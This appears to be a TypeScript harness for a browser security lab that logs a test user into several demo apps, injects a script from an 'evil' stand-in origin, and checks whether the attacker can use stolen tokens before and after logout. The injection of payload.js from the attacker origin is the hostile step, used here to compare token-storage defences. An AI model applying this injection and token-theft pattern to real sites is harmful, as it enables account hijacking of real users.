import { startLab, type Lab } from './lab.ts'
import { appNames, originOf, type AppName } from './places.ts'
import type { Row } from './matrix.ts'

/** As much of Playwright as is used, so that it stays a package of those who run the lab headless. */
interface Page {
  goto(url: string): Promise<unknown>
  click(selector: string): Promise<unknown>
  addScriptTag(options: { url: string }): Promise<unknown>
  waitForSelector(selector: string): Promise<unknown>
  close(): Promise<unknown>
}
export interface LabBrowser {
  newContext(): Promise<{ newPage(): Promise<Page>; close(): Promise<unknown> }>
}

/** Runs every attack on every app in a browser; each app gets a fresh profile. `look` sees the lab before it closes. */
export async function runHeadless(
  browser: LabBrowser,
  look: (lab: Lab) => Promise<void> = async () => {},
): Promise<{ rows: readonly Row[]; exchanges: Lab['attacker']['exchanges'] }> {
  const lab = await startLab()
  try {
    for (const app of appNames) await attackInBrowser(lab, browser, app)
    await look(lab)
    return { rows: [...lab.rows.values()], exchanges: lab.attacker.exchanges }
  } finally {
    await lab.close()
  }
}

async function attackInBrowser(lab: Lab, browser: LabBrowser, app: AppName): Promise<void> {
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(`${originOf(lab.places, app)}/`)
    await page.click('#login')
    await page.click('button.user[value=ada]')
    await page.waitForSelector('#account:has-text("ada has")')
    await page.addScriptTag({ url: `${originOf(lab.places, 'evil')}/payload.js` })
    await page.click('#refresh')
    await until(() => lab.attacker.isScriptHome(app), `${app}: the script did not come home`)
    await page.close()

    await lab.attack(app)
    // A page that kept its tokens in memory has to log in anew; the provider still knows the user.
    const again = await context.newPage()
    await again.goto(`${originOf(lab.places, app)}/`)
    if (app === 'mem' || app === 'proxy') await again.click('#login')
    await again.waitForSelector('#account:has-text("ada has")')
    await again.click('#logout')
    await again.waitForSelector('#account:has-text("Logged out"), #account:has-text("Not logged in (401)")')
    await lab.attackAfterLogout(app)
  } finally {
    await context.close()
  }
}

async function until(condition: () => boolean, trouble: string): Promise<void> {
  for (const deadline = Date.now() + 20_000; Date.now() < deadline;) {
    if (condition()) return
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  throw new Error(trouble)
}
